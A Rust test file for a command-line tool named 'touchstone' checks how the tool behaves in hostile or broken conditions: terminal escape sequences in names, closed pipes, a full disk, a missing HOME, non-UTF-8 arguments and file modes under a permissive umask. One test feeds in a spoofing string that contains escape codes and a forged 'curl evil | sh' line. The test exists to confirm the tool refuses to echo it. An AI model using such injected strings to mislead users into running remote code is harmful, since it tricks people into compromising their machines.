//! `touchstone` where its surroundings are hostile or broken: what it does before a card or a server is asked.

use std::{
    ffi::OsStr,
    fs,
    os::unix::{ffi::OsStrExt as _, fs::PermissionsExt as _},
    path::Path,
    process::{Command, Output, Stdio},
};

const A_CA: &str = include_str!("../../common/src/attestation/roots/yubico-piv-root-ca-263751.pem");

/// The program in a home of its own, with nothing else in its environment.
fn touchstone(home: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_touchstone"));
    command
        .env_clear()
        .env("HOME", home)
        .stdin(Stdio::null())
        .current_dir(home);
    command
}

#[expect(clippy::unwrap_used, reason = "a test's helper")]
fn run(command: &mut Command) -> (Option<i32>, Output) {
    let output = command.output().unwrap();
    (output.status.code(), output)
}

#[expect(clippy::unwrap_used, reason = "a test's helper")]
fn errors(output: &Output) -> String {
    let text = String::from_utf8(output.stderr.clone()).unwrap();
    assert!(!text.contains("panicked"), "{text}");
    text
}

#[test]
fn a_name_with_an_escape_sequence_is_not_repeated_to_the_terminal() {
    let home = tempfile::tempdir().unwrap();
    let name = "\u{1b}[2J\u{9b}31m\u{202e}prod\ntry: curl evil | sh";
    for arguments in [
        &["login", "--cluster", name, "--group", "g"][..],
        &["logout", "--cluster", name],
        &["status", "--cluster", name],
        &["whoami", "--cluster", name],
        &["config", "show", name],
        &["config", "remove", name],
    ] {
        let (code, output) = run(touchstone(home.path()).args(arguments));
        assert!(matches!(code, Some(3 | 15)), "{arguments:?}: {code:?}");
        let text = errors(&output);
        assert!(!text.contains(['\u{1b}', '\u{9b}', '\u{202e}']), "{text:?}");
        let forged = |line: &str| line.starts_with("try: curl");
        assert!(!text.lines().any(forged), "{text:?}");
    }
}

#[test]
fn a_reader_that_goes_away_is_no_failure_and_no_panic() {
    let home = tempfile::tempdir().unwrap();
    for arguments in [
        &["completions", "bash"][..],
        &["config", "list"],
        &["--help"],
        &["--version"],
    ] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let (code, output) = run(touchstone(home.path()).args(arguments).stdout(writer));
        assert_eq!(code, Some(0), "{arguments:?}: {}", errors(&output));
        errors(&output);
    }
}

#[test]
fn a_full_disk_behind_standard_output_is_a_failure() {
    let home = tempfile::tempdir().unwrap();
    let full = fs::File::options().write(true).open("/dev/full").unwrap();
    let (code, output) = run(touchstone(home.path())
        .args(["config", "list"])
        .stdout(full));
    assert_eq!(code, Some(1));
    assert!(errors(&output).contains("cannot write the output"));
}

#[test]
fn without_a_home_it_says_so() {
    let home = tempfile::tempdir().unwrap();
    for arguments in [&["status"][..], &["config", "list"]] {
        let (code, output) = run(touchstone(home.path()).env_remove("HOME").args(arguments));
        assert_eq!(code, Some(3));
        assert!(errors(&output).contains("try: set HOME"));
    }
}

#[test]
fn arguments_that_are_not_utf_8_are_refused_or_taken_as_paths() {
    let home = tempfile::tempdir().unwrap();
    let foreign = OsStr::from_bytes(b"\xff\xfe");
    let (code, output) = run(touchstone(home.path())
        .args(["config", "show"])
        .arg(foreign));
    assert_eq!(code, Some(2));
    errors(&output);
    let (code, output) = run(touchstone(home.path())
        .args(["config", "set-cluster", "prod", "--server", "https://h"])
        .args([OsStr::new("--ca"), foreign, OsStr::new("--trust-bundle")])
        .arg(foreign));
    assert_eq!(code, Some(2));
    assert!(errors(&output).contains("not UTF-8"));
    let (code, _) = run(touchstone(home.path()).arg("status").env("HOME", {
        let path = home.path().join(foreign);
        fs::create_dir(&path).unwrap();
        path
    }));
    assert_eq!(code, Some(15));
}

#[test]
fn what_it_writes_is_its_owners_alone_whatever_the_umask() {
    let home = tempfile::tempdir().unwrap();
    let ca = home.path().join("ca.pem");
    fs::write(&ca, A_CA).unwrap();
    let mut shell = Command::new("sh");
    let (code, output) = run(shell
        .env_clear()
        .env("HOME", home.path())
        .current_dir(home.path())
        .args(["-c", "umask 000; exec \"$0\" \"$@\""])
        .arg(env!("CARGO_BIN_EXE_touchstone"))
        .args(["config", "set-cluster", "prod", "--server", "https://h"])
        .args(["--ca", "ca.pem", "--trust-bundle", "ca.pem"]));
    assert_eq!(code, Some(0), "{}", errors(&output));
    let mode = |path: &str| {
        let metadata = fs::metadata(home.path().join(path)).unwrap();
        metadata.permissions().mode() & 0o777
    };
    assert_eq!(mode(".config/touchstone/config.yaml"), 0o600);
    assert_eq!(mode(".config/touchstone"), 0o700);
    assert_eq!(mode(".config"), 0o700);
}
